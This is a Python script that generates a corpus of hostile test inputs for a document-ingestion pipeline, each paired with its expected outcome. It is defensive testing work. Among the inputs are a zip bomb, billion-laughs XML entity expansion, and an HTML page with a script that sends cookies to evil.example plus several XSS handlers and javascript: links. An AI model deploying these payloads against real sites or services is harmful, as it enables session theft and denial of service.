"""Generate a corpus of hostile inputs: files that are empty, binary, huge,
malformed, deeply nested, mis-encoded or laced with invisible and active content.

Everything is generated here, cheaply and deterministically; nothing is
downloaded and nothing generated is committed. ``make(folder)`` writes the files
and returns ``{file name: expected outcome}``; an outcome is either
``"refused: <words the reason contains>"`` or ``"stored safely"`` (or
``"refused or stored safely"`` where either is acceptable).

Limits the corpus runs into (see :mod:`dossier.ingest`):

* ``dossier.ingest.MAX_FILE_BYTES`` (50,000,000): a text or HTML file over it
  is refused unread;
* ``dossier.ingest.jsonl.MAX_LINE_BYTES`` (10,000,000): a longer JSONL line is
  skipped in chunks, never held whole;
* ``dossier.clean.MAX_SENTENCE_CHARS``: a run of text with no sentence end
  longer than it is refused before it reaches the parser.

Usage: ``python tests/data/hostile/make_hostile.py [FOLDER]`` (default:
``tests/data/hostile/out/``, which git ignores).
"""
from __future__ import annotations

import io
import json
import struct
import sys
import zipfile
import zlib
from pathlib import Path

MAX_FILE_BYTES = 50_000_000  # dossier.ingest.MAX_FILE_BYTES
MAX_LINE_BYTES = 10_000_000  # dossier.ingest.jsonl.MAX_LINE_BYTES
CHUNK = 1 << 20

PARAGRAPH = (
    "The convoy left the northern depot before dawn, and residents of the valley "
    "said the road had been closed for most of the morning while engineers "
    "checked the bridges for explosives. Officials gave no figure for the "
    "number of vehicles.\n\n"
)

ARTICLE = (
    "Fighters of the River Front withdrew from the market town of Port Ellis on "
    "Friday after a week of clashes with the army, residents said. A local "
    "official said that shops had begun to reopen and that water had been "
    "restored to most districts. The group had held the town since February."
)


def make(folder: Path) -> dict[str, str]:
    """Write the hostile corpus into ``folder``; return name → expected outcome."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, str] = {}

    def write(name: str, data: bytes, outcome: str) -> None:
        (folder / name).write_bytes(data)
        expected[name] = outcome

    write("empty.txt", b"", "refused: empty")
    write("whitespace_only.txt", b" \t\r\n \n\n\t  \n", "refused: empty")
    write("image.png", _png(), "refused: binary")
    write("program.elf", _elf(), "refused: binary")
    write("archive.zip", _zip(), "refused: binary")
    _zip_bomb(folder / "zip_bomb.txt")
    expected["zip_bomb.txt"] = "refused: binary"
    _huge_text(folder / "huge.txt", MAX_FILE_BYTES + 1)
    expected["huge.txt"] = "refused: too large"
    write("long_sentence.txt", _long_sentence(200_000).encode(), "refused: too long")
    write("nested_divs.html", _nested_divs(10_000).encode(), "refused or stored safely")
    write("invalid_utf8.txt",
          ARTICLE.encode()[:80] + b"\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc\xff\xfe\xfd"
          + ARTICLE.encode()[80:], "refused or stored safely")
    write("utf16_no_bom.txt", ARTICLE.encode("utf-16-le"), "refused: binary")
    write("mixed_encodings.txt",
          ("Café owners in the old quarter said the curfew “ruined” trade.\n\n").encode()
          + ("Résidents à Kidal said the army’s patrols had stopped.\n\n").encode("cp1252")
          + ARTICLE.encode(), "stored safely")
    write("nul_bytes.txt", ARTICLE[:100].encode() + b"\x00\x00" + ARTICLE[100:].encode(),
          "refused: binary")
    write("invisible_names.txt", _invisible_names().encode(), "stored safely")
    write("active_content.html", _active_content().encode(), "stored safely")
    _broken_jsonl(folder / "broken.jsonl")
    expected["broken.jsonl"] = ("refused: not valid JSON (lines 1, 2), expected a JSON object "
                                "(line 3), line too long (line 4); line 5 stored safely")
    write("billion_laughs.xml", _billion_laughs().encode(), "refused or stored safely")
    write("billion_laughs.html", _billion_laughs().encode(), "refused or stored safely")
    return expected


def _png() -> bytes:
    """A valid PNG signature and IHDR chunk, then junk."""
    ihdr = struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(ihdr)) + chunk
            + struct.pack(">I", zlib.crc32(chunk)) + bytes(range(256)) * 16)


def _elf() -> bytes:
    """A 64-bit little-endian ELF header followed by padding and junk."""
    header = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHI", 2, 0x3E, 1)
    return header + b"\x00" * 40 + bytes(range(256)) * 8


def _zip() -> bytes:
    """A small zip archive holding one text article."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("article.txt", ARTICLE)
    return buffer.getvalue()


def _zip_bomb(path: Path, expanded: int = 1 << 30) -> None:
    """A zip of about 1 MB that expands to ``expanded`` bytes of zeros."""
    zeros = bytes(CHUNK)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("article.txt", "w", force_zip64=True) as member:
            for _ in range(expanded // CHUNK):
                member.write(zeros)


def _huge_text(path: Path, size: int) -> None:
    """A text file of exactly ``size`` bytes: the paragraph repeated."""
    block = (PARAGRAPH * (CHUNK // len(PARAGRAPH) + 1)).encode()[:CHUNK]
    with path.open("wb") as file:
        left = size
        while left:
            file.write(block[:min(left, CHUNK)])
            left -= min(left, CHUNK)


def _long_sentence(chars: int) -> str:
    """One sentence of ``chars`` characters with no sentence end."""
    words = "and the militia moved along the river road toward the town "
    return (words * (chars // len(words) + 1))[:chars].rstrip() + "\n"


def _nested_divs(depth: int) -> str:
    """An article buried under ``depth`` nested ``<div>`` tags."""
    return ("<!DOCTYPE html><html><head><title>Nested</title></head><body>"
            + "<div>" * depth + f"<p>{ARTICLE}</p>" + "</div>" * depth + "</body></html>")


def _invisible_names() -> str:
    """Group names with zero-width and bidi control characters inside them."""
    return ("MOGADISHU — Fighters of al-Sha\u200bbaab attacked a police post on the "
            "edge of the capital on Tuesday, officials said. A spokesman for al-Sha\u200dbaab "
            "said the group had carried out the raid.\n\n"
            "In a separate statement, \u202eISIS said its fighters had clashed with "
            "soldiers in the north.\ufeff Police said the \u200bsituation was calm by evening.\n")


def _active_content() -> str:
    """A real paragraph surrounded by scripts, javascript: links and handlers."""
    return f"""<!DOCTYPE html>
<html><head><title>Town retaken after week of clashes</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<script type="text/javascript">alert('xss')</script></head>
<body onload="alert(1)">
<a href="javascript:alert(document.cookie)" onclick="steal()">Click here</a>
<img src="x.png" onerror="alert('img')">
<article><h1>Town retaken after week of clashes</h1>
<p onclick="alert('p')">{ARTICLE}</p>
<p>Aid agencies said on Saturday that convoys would resume once the roads were cleared.</p>
<script>var s = "<p>javascript:alert(2)</p>";</script>
</article>
<iframe src="javascript:alert(3)"></iframe>
<svg onload="alert(4)"><script>alert(5)</script></svg>
</body></html>
"""


def _broken_jsonl(path: Path) -> None:
    """Broken lines, a non-object line, a line over the limit (streamed), a good line."""
    with path.open("wb") as file:
        file.write(b'{"text": "unterminated\n')
        file.write(b'{"text": "a", "title": \xff\xfe}\n')
        file.write(b'["a list", "not an object"]\n')
        file.write(b'{"text": "')
        filler = b"the road was closed " * (CHUNK // 20)
        for _ in range(MAX_LINE_BYTES // len(filler) + 1):
            file.write(filler)
        file.write(b'"}\n')
        file.write(json.dumps({"text": ARTICLE, "title": "Line after the huge one"}).encode()
                   + b"\n")


def _billion_laughs() -> str:
    """An RSS feed whose DTD defines exponentially expanding entities."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE rss [\n' + "\n".join(entities) + "\n]>\n"
            "<rss version=\"2.0\"><channel><title>Feed</title><item><title>&lol9;</title>"
            f"<description>&lol9; {ARTICLE}</description></item></channel></rss>\n")


def main(argv: list[str]) -> int:
    """Write the corpus to the folder given, or to ``out/`` beside this script."""
    folder = Path(argv[1]) if len(argv) > 1 else Path(__file__).resolve().parent / "out"
    for name, outcome in make(folder).items():
        print(f"{name}\t{outcome}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
